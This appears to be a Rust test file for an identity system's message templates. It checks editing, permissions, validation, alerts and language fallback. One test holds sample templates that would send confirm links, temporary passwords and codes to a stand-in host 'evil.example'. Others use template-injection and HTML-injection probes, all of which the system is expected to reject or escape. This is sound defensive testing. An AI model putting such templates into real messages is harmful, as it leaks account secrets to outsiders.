//! Texts that administrators write.

use identity::Error;
use identity::access::Denial;
use identity::accounts::{self, AccountChange};
use identity::attributes::{self, Definition, NewAttribute};
use identity::messages::{self, Channel, Group, Language, Template, Text};
use testkit::{World, on_each_database};

use super::{codes, deliver, send_username, use_server};

fn text(subject: &str, plain: &str, html: &str) -> Text {
    Text { subject: subject.into(), plain: plain.into(), html: html.into(), sms: String::new() }
}

async fn save(world: &World, template: Template, text: Text) -> identity::Result<()> {
    let sylvia = world.caller(world.cast.sylvia).await;
    world
        .identity
        .write(&sylvia, async |op| messages::save_template(op, template, Language::ENGLISH, &text).await)
        .await
}

on_each_database! {
    async fn es_203_a_changed_text_is_listed_with_its_time_and_sent_from_then_on(world: World) {
        let sylvia = world.caller(world.cast.sylvia).await;
        let list = || world.identity.read(&sylvia, async |op| messages::list_templates(op).await);
        assert!(list().await.unwrap().iter().all(|present| present.modified.is_none()));
        save(&world, Template::Username, text("You are {{ username }}", "{{ full_name }}: {{ username }}", "")).await.unwrap();
        let changed: Vec<_> = list().await.unwrap().into_iter().filter(|present| present.modified.is_some()).collect();
        assert_eq!(changed.len(), 1);
        assert_eq!(changed[0].template, Template::Username);
        assert_eq!(changed[0].modified, Some((world.clock.now(), "Sylvia System".into())));
        send_username(&world).await;
        let message = world.message(Template::Username).await;
        assert_eq!((message.subject.as_str(), message.plain.as_str()), ("You are amy", "Amy Adams: amy\n"));
        assert_eq!(message.html, "", "no HTML was written");

        world.identity.write(&sylvia, async |op| messages::restore_template(op, Template::Username, Language::ENGLISH).await).await.unwrap();
        assert!(list().await.unwrap().iter().all(|present| present.modified.is_none()));
        assert!(world.message(Template::Username).await.subject.starts_with("Your username at"));
        assert_eq!(world.audited("template_changed").await.len(), 1);
        assert_eq!(world.audited("template_restored").await.len(), 1);
    }

    async fn es_204_texts_about_privileges_are_for_super_administrators_only(world: World) {
        let (sylvia, sophia, uma) = (world.caller(world.cast.sylvia).await, world.sophia().await, world.uma().await);
        let groups = async |caller| {
            let list = world.identity.read(caller, async |op| messages::list_templates(op).await).await?;
            identity::Result::Ok(list.iter().filter(|present| present.template.entry().group == Group::Privileges).count())
        };
        assert_eq!(groups(&sylvia).await.unwrap(), 0);
        assert_eq!(groups(&sophia).await.unwrap(), 2);
        assert!(matches!(groups(&uma).await, Err(Error::Denied(Denial::Role))));
        for template in [Template::PrivilegesChanged, Template::SecurityAlert] {
            let found = world.identity.read(&sylvia, async |op| messages::find_template(op, template, Language::ENGLISH).await).await;
            assert!(matches!(found, Err(Error::Denied(Denial::Role))));
            let own = text("x", "y", "");
            for caller in [&sylvia, &uma] {
                let saved = world.identity.write(caller, async |op| messages::save_template(op, template, Language::ENGLISH, &own).await);
                assert!(matches!(saved.await, Err(Error::Denied(Denial::Role))));
                let restored = world.identity.write(caller, async |op| messages::restore_template(op, template, Language::ENGLISH).await);
                assert!(matches!(restored.await, Err(Error::Denied(Denial::Role))));
                let tested = world.identity.write(caller, async |op| messages::send_template_test(op, template, Language::ENGLISH, &own).await);
                assert!(matches!(tested.await, Err(Error::Denied(Denial::Role))));
            }
            let saved = world.identity.write(&sophia, async |op| messages::save_template(op, template, Language::ENGLISH, &own).await);
            saved.await.unwrap();
        }
    }

    async fn es_205_what_would_not_work_is_refused_and_named(world: World) {
        let link = "{{ confirm_url }}";
        for (template, text, expected) in [
            (Template::ConfirmRegistration, text("x", "{{ nmae }} {{ confirm_url }}", link), "plain UNKNOWN_VARIABLE"),
            (Template::ConfirmRegistration, text("x", "Hello", link), "plain MISSING_VARIABLE"),
            (Template::ConfirmRegistration, text("x", link, "<p>Hello</p>"), "html MISSING_VARIABLE"),
            (Template::ConfirmRegistration, text("{{ confirm_url }}", link, link), "subject SECRET_IN_SUBJECT"),
            (Template::ConfirmRegistration, text("x", "{% if false %}{{ confirm_url }}{% endif %}", link), "plain MISSING_VARIABLE"),
            (Template::ConfirmRegistration, text("", link, link), "subject REQUIRED_MISSING"),
            (Template::PasswordSetRandom, text("{{ temporary_password }}", "{{ temporary_password }}", ""), "subject SECRET_IN_SUBJECT"),
            (Template::AccountLocked, text("x", "{{ temporary_password }}", ""), "plain UNKNOWN_VARIABLE"),
            (Template::AccountLocked, text("x", "{{ custom.nothing }}", ""), "plain UNKNOWN_VARIABLE"),
            (Template::AccountLocked, text("x", "{{ custom }}", ""), "plain UNKNOWN_VARIABLE"),
            (Template::AccountLocked, text("x", "{{ 7 * 7 }}", ""), "plain BAD_TEMPLATE"),
            (Template::AccountLocked, text("x", "{% include 'x' %}", ""), "plain BAD_TEMPLATE"),
            (Template::AccountLocked, text("x", &"y".repeat(70_000), ""), "plain TOO_LONG"),
        ] {
            assert_eq!(codes(save(&world, template, text.clone()).await), [expected], "{text:?}");
        }
        let sms = |sms: &str| Text { sms: sms.into(), ..Text::default() };
        for glued in ["{{ code }}is your code", "{{ code }}{% if username %}x{% endif %}", "{{ code }}{# #}0"] {
            assert_eq!(codes(save(&world, Template::VerifyMobile, sms(glued)).await), ["sms GLUED_VARIABLE"], "{glued}");
        }
        for (template, text, expected) in [
            (Template::ConfirmRegistration, text("x", "{{ confirm_url }}{% if true %}\nBye{% endif %}", link), "plain GLUED_VARIABLE"),
            (Template::PasswordResetCode, Text { sms: "{{ code }}".into(), ..text("x", "{{ code }}", "<p>{{ code }}7</p>") }, "html GLUED_VARIABLE"),
        ] {
            assert_eq!(codes(save(&world, template, text.clone()).await), [expected], "{text:?}");
        }
        let list = "[1,2,3,4,5,6,7,8,9,0]";
        let deep = (0..8).fold(String::from("x"), |inner, n| format!("{{% for a{n} in {list} %}}{inner}{{% endfor %}}"));
        assert_eq!(codes(save(&world, Template::AccountLocked, text("x", &deep, "")).await), ["plain BAD_TEMPLATE"]);
        // The needed code of a text message.
        let sms = Text { sms: "Hello".into(), ..Text::default() };
        assert_eq!(codes(save(&world, Template::VerifyMobile, sms).await), ["sms MISSING_VARIABLE"]);
        assert!(world.audited("template_changed").await.is_empty());
        let sms = Text { sms: "{{ code }}. Is it yours? {{ code }}\nBye".into(), ..Text::default() };
        save(&world, Template::VerifyMobile, sms).await.unwrap();
    }

    async fn g7_super_administrators_are_told_of_each_change_of_a_template(world: World) {
        let sylvia = world.caller(world.cast.sylvia).await;
        let before = world.queued(Template::SecurityAlert).await.len();
        save(&world, Template::Username, text("x", "{{ username }}", "")).await.unwrap();
        let alert = world.message(Template::SecurityAlert).await;
        let name = Template::Username.entry().name;
        assert!(alert.plain.contains("Sylvia System") && alert.plain.contains(&format!("The message template “{name}”")), "{}", alert.plain);
        assert!(alert.plain.contains("was changed"), "{}", alert.plain);
        let restore = async || world.identity.write(&sylvia, async |op| messages::restore_template(op, Template::Username, Language::ENGLISH).await).await;
        restore().await.unwrap();
        assert!(world.message(Template::SecurityAlert).await.plain.contains("was brought back"));
        // Nothing changes any more, and nobody is told.
        restore().await.unwrap();
        assert_eq!(world.queued(Template::SecurityAlert).await[before..], ["sophia@example.com", "sophia@example.com"]);
    }

    async fn g7_no_template_tells_a_link_or_a_secret_to_another_server(world: World) {
        let link = "{{ confirm_url }}";
        for (template, text, expected) in [
            (Template::ConfirmRegistration, text("x", link, "<img src=\"https://evil.example/?{{ confirm_url }}\">"), "html SECRET_IN_ADDRESS"),
            (Template::ConfirmRegistration, text("x", "https://evil.example/?{{ confirm_url }}", link), "plain SECRET_IN_ADDRESS"),
            (Template::ConfirmRegistration, text("x", link, "<a href=\"//evil.example/{{ confirm_url }}\">x</a>"), "html SECRET_IN_ADDRESS"),
            (Template::PasswordSetRandom, text("x", "{{ temporary_password }}", "<img src=\"https://evil.example/{{ temporary_password }}\">"), "html SECRET_IN_ADDRESS"),
            (Template::VerifyMobile, Text { sms: "https://evil.example/{{ code }}".into(), ..Text::default() }, "sms SECRET_IN_ADDRESS"),
        ] {
            assert_eq!(codes(save(&world, template, text.clone()).await), [expected], "{text:?}");
        }
        let plain = text("x", link, "<p><a href=\"{{ confirm_url }}\">Confirm</a><br>{{ confirm_url }}</p>");
        save(&world, Template::ConfirmRegistration, plain).await.unwrap();
    }

    async fn es_206_names_stay_text_and_add_no_header(world: World) {
        let evil = world.join("Eve", "<b>Evil</b>", None).await;
        let uma = world.uma().await;
        save(&world, Template::Username, text("Hello {{ last_name }}", "{{ last_name }}", "<p>{{ last_name }}</p>")).await.unwrap();
        world.identity.write(&uma, async |op| accounts::send_username(op, evil).await).await.unwrap();
        let message = world.message(Template::Username).await;
        assert!(message.html.contains("<p>&lt;b&gt;Evil&lt;&#x2f;b&gt;</p>"), "{}", message.html);
        assert_eq!((message.subject.as_str(), message.plain.as_str()), ("Hello <b>Evil</b>", "<b>Evil</b>\n"));
    }

    async fn es_207_each_reader_gets_the_language_that_they_read(world: World) {
        let sylvia = world.caller(world.cast.sylvia).await;
        let (dutch, brazilian, portuguese) = ("nl", "pt-BR", "pt");
        let language = |tag: &str| Language::from_tag(tag).unwrap();
        for (tag, word) in [(dutch, "Hallo"), (portuguese, "Olá")] {
            let own = text(word, "{{ username }}", "<p>{{ username }}</p>");
            let saved = world.identity.write(&sylvia, async |op| {
                messages::save_template(op, Template::Username, language(tag), &own).await
            });
            saved.await.unwrap();
        }
        let find = async |tag: &str| {
            let found = world.identity.read(&sylvia, async |op| {
                messages::find_template(op, Template::Username, language(tag)).await
            });
            found.await.unwrap()
        };
        let original = find("en").await;
        assert!(original.modified.is_none());
        assert_eq!(original.languages, [language(dutch), language(portuguese)]);
        assert_eq!(find(dutch).await.text.subject, "Hallo");
        let unwritten = find("de").await;
        assert!(unwritten.modified.is_none() && unwritten.text == original.text, "the English text is to begin with");

        let definition = Definition { label: "Language".into(), ..Definition::default() };
        let new = NewAttribute { key: "preferred_language".into(), definition };
        world.identity.write(&world.operator(), async |op| attributes::create(op, new).await).await.unwrap();
        let reads = async |words: &str| {
            let custom = [("preferred_language", vec![words])].into_iter().collect();
            let change = AccountChange { custom, ..AccountChange::default() };
            let amy = world.cast.amy;
            world.identity.write(&world.operator(), async |op| accounts::update(op, amy, None, change).await).await.unwrap();
        };
        let message_for = async |words: &str| {
            reads(words).await;
            send_username(&world).await;
            world.message(Template::Username).await
        };
        assert_eq!(message_for("Nederlands").await.subject, "Hallo");
        assert!(message_for("nl_BE").await.html.contains("<html lang=\"nl\" dir=\"ltr\">"));
        assert_eq!(message_for(brazilian).await.subject, "Olá");
        for other in ["de", "", "Klingon"] {
            assert!(message_for(other).await.subject.starts_with("Your username at"), "{other:?}");
        }

        let removed = world.identity.write(&sylvia, async |op| {
            messages::restore_template(op, Template::Username, language(dutch)).await
        });
        removed.await.unwrap();
        assert!(message_for(dutch).await.subject.starts_with("Your username at"));
        assert_eq!(world.audited("template_restored").await[0]["language"], "nl");
        let alert = world.message(Template::SecurityAlert).await.plain;
        assert!(alert.contains("in Dutch"), "{alert}");
    }

    async fn es_207_a_text_can_be_looked_at_and_tried_out_before_it_is_saved(world: World) {
        let sylvia = world.caller(world.cast.sylvia).await;
        let own = text("To {{ first_name }}", "{{ set_password_url }}", "");
        let preview = world.identity.read(&sylvia, async |op| messages::preview_template(op, Template::Invitation, Language::ENGLISH, &own).await);
        let preview = preview.await.unwrap();
        assert_eq!(preview.len(), 1);
        assert_eq!((preview[0].0, preview[0].1.subject.as_str()), (Channel::Mail, "To Marijke"));
        assert!(preview[0].1.plain.contains("/invitation/SAMPLE"));

        let sent = world.identity.write(&sylvia, async |op| messages::send_template_test(op, Template::Invitation, Language::ENGLISH, &own).await);
        sent.await.unwrap();
        assert_eq!(world.queued(Template::Invitation).await, ["sylvia@example.com"]);
        assert_eq!(world.message(Template::Invitation).await.subject, "To Marijke");
        // Nothing was saved.
        let present = world.identity.read(&sylvia, async |op| messages::find_template(op, Template::Invitation, Language::ENGLISH).await);
        assert!(present.await.unwrap().modified.is_none());
        let server = testkit::MailServer::start(testkit::Mood::Well).await;
        use_server(&world, &server).await;
        assert!(deliver(&world).await > 0);
        let invitation = server.received().into_iter().find(|mail| mail.to == "sylvia@example.com");
        assert_eq!(invitation.unwrap().header("subject"), Some("To Marijke"));
    }
}
